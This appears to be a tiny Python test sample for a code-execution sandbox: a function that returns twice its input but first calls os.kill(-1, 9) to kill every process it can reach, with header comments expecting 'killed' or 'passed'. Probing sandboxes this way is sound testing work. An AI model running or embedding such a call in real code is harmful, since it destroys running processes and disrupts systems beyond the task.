# family: process
# what: kills all that it may
# want: killed|passed

import os

def answer(x):
    try:
        os.kill(-1, 9)
    except OSError:
        pass
    return 2 * x
